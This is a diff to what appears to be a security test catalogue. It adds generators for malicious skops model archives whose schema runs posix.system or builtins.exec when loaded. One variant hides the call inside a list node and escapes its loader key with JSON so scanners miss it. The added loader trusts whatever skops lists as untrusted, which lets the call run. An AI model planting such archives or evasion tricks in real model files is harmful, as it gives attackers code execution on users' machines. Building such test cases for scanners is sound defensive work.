@@ -1676,6 +1676,64 @@ def export_guards_code(canary: Canary, _d: Path) -> bytes:
     return _edit_export_program(_exported_program_bytes(), edit)
 
 
+def skops_load_trusting_listed(path: Path) -> object:
+    """``skops.io.load(path, trusted=get_untrusted_types(file=path))``: skops' own workflow."""
+    import skops.io as sio
+
+    return sio.load(path, trusted=sio.get_untrusted_types(file=path))
+
+
+def _skops_json(value: object) -> dict[str, object]:
+    return {
+        "__class__": type(value).__name__,
+        "__module__": "builtins",
+        "__loader__": "JsonNode",
+        "content": json.dumps(value),
+        "is_json": True,
+    }
+
+
+def skops_reduce(module: str, name: str, arg: Callable[[Canary], str], nested: bool) -> Payload:
+    """A ``.skops`` whose schema calls ``module.name(arg)`` (ConstructorFromReduceNode).
+
+    ``nested`` hides the node as an item of a list node, with its ``__loader__`` key
+    spelled with a JSON escape, so only a reader that parses the schema sees it.
+    """
+
+    def payload(canary: Canary, _d: Path) -> bytes:
+        call_node = {
+            "__class__": name,
+            "__module__": module,
+            "__loader__": "ConstructorFromReduceNode",
+            "content": {
+                "__class__": "tuple",
+                "__module__": "builtins",
+                "__loader__": "TupleNode",
+                "content": [_skops_json(arg(canary))],
+            },
+        }
+        schema: dict[str, object] = call_node
+        if nested:
+            schema = {
+                "__class__": "list",
+                "__module__": "builtins",
+                "__loader__": "ListNode",
+                "content": [_skops_json([0.5, 0.25]), call_node],
+            }
+        text = json.dumps({**schema, "protocol": 2}, indent=2)
+        if nested:
+            text = text.replace(
+                '"__loader__": "ConstructorFromReduceNode"',
+                '"__lo\\u0061der__": "ConstructorFromReduceNode"',
+            )
+        out = io.BytesIO()
+        with zipfile.ZipFile(out, "w") as zf:
+            zf.writestr("schema.json", text)
+        return out.getvalue()
+
+    return payload
+
+
 # ---------------------------------------------------------------------------------------------
 # The catalogue
 # ---------------------------------------------------------------------------------------------
@@ -3025,6 +3083,25 @@ ATTACKS: tuple[Attack, ...] = (
         _file("model.pt2", export_guards_code),
         torch_export_load_and_run,
         TORCH,
+    ),
+    _a(
+        "skops-reduce-posix-system",
+        "skops ConstructorFromReduceNode calling posix.system",
+        "https://skops.readthedocs.io/en/stable/persistence.html",
+        "skops refuses untrusted types, but its workflow trusts what get_untrusted_types "
+        "lists; the schema was not read, so the archive scanned safe.",
+        _file("model.skops", skops_reduce("posix", "system", _sh, nested=False)),
+        skops_load_trusting_listed,
+        ("skops",),
+    ),
+    _a(
+        "skops-reduce-exec-nested-escaped",
+        "skops builtins.exec node inside a list node, __loader__ key escaped",
+        "https://skops.readthedocs.io/en/stable/persistence.html",
+        "The call node is a list item and its loader key is a JSON escape.",
+        _file("model.skops", skops_reduce("builtins", "exec", _pystmt, nested=True)),
+        skops_load_trusting_listed,
+        ("skops",),
     ),
 )
 
